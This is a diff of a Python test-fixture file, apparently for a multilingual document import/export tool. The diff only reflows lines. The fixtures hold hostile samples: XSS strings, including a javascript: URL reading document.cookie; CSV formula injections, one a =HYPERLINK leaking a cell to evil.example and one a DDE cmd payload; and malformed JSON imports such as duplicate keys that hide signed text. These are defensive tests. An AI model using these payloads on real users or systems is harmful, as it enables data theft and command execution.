@@ -25,9 +25,7 @@ class Sample:
 
 
 SCRIPT = Sample("script tag", "<script>alert(1)</script>", ("<script>alert(1)",))
-ATTRIBUTE_BREAKOUT = Sample(
-    "attribute break-out", '"><img src=x onerror=alert(1)>', ("<img src=x onerror", '"><img')
-)
+ATTRIBUTE_BREAKOUT = Sample("attribute break-out", '"><img src=x onerror=alert(1)>', ("<img src=x onerror", '"><img'))
 SINGLE_QUOTE_BREAKOUT = Sample("single-quote break-out", "' onmouseover='alert(1)", ("' onmouseover='",))
 JAVASCRIPT_URL = Sample(
     "javascript: URL", 'javascript:alert(document.cookie) <a href="javascript:alert(1)">x</a>', ('<a href="javascript',)
@@ -45,7 +43,9 @@ EMOJI = Sample(
     "Family \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 flags \U0001f1f0\U0001f1f7\U0001f1ea\U0001f1f8 "
     "thumbs \U0001f44d\U0001f3fd heart \u2764\ufe0f",
 )
-KOREAN_MIXED = Sample("mixed Korean and Latin", "제1조 (Article 1) 신뢰할 수 있는 AI — trustworthy 인공지능 <b>굵게</b>", ("<b>굵게",))
+KOREAN_MIXED = Sample(
+    "mixed Korean and Latin", "제1조 (Article 1) 신뢰할 수 있는 AI — trustworthy 인공지능 <b>굵게</b>", ("<b>굵게",)
+)
 HYPERLINK = Sample("CSV formula =HYPERLINK", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")')
 PLUS = Sample("CSV formula +", "+1+cmd|' /C calc'!A0")
 MINUS = Sample("CSV formula -", "-1+1")
@@ -179,7 +179,8 @@ MALFORMED_IMPORTS: dict[str, bytes] = {
     "deep nesting": deep_nesting(),
     "huge integer": b'{"languages": [' + b"9" * 100_000 + b"]}",
     "huge float": json.dumps(minimal_file()).encode()[:-1] + b', "format": 1e999999}',
-    "NaN in provenance": json.dumps(minimal_file()).encode()[:-1] + b', "versions": [{"language": "en", "label": NaN}]}',
+    "NaN in provenance": json.dumps(minimal_file()).encode()[:-1]
+    + b', "versions": [{"language": "en", "label": NaN}]}',
     "duplicate key in text": (
         b'{"title": {"en": "Hostile import"}, "languages": ["en"], "sections": [{"key": "intro", '
         b'"clauses": [{"key": "c1", "text": {"en": "What the reviewer saw", "en": "What gets signed"}}]}]}'
@@ -196,7 +197,9 @@ MALFORMED_IMPORTS: dict[str, bytes] = {
         b'"sections": [{"key": "s", "clauses": [{"key": "c", "text": {"en": "bad \\ud800 surrogate"}}]}]}'
     ),
     "NUL in provenance": json.dumps(minimal_file(versions=[{"language": "en", "label": "a\u0000b"}])).encode(),
-    "nested object in provenance": json.dumps(minimal_file(versions=[{"language": "en", "label": {"x": [1]}}])).encode(),
+    "nested object in provenance": json.dumps(
+        minimal_file(versions=[{"language": "en", "label": {"x": [1]}}])
+    ).encode(),
     "text over the limit": json.dumps(
         minimal_file(sections=[{"key": "intro", "clauses": [{"key": "c1", "text": {"en": "x" * 100_001}}]}])
     ).encode(),
